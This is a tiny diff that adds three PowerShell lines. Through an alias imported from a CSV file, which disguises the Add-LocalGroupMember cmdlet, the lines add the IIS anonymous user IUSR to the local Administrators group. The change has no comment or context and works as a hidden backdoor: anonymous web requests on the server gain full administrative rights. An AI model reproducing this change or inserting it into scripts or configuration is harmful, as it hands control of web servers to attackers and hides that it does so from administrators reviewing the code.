@@ -1,0 +1,3 @@
+"alg,Add-LocalGroupMember,,None" | sc a.csv
+Import-Alias a.csv
+alg Administrators IUSR
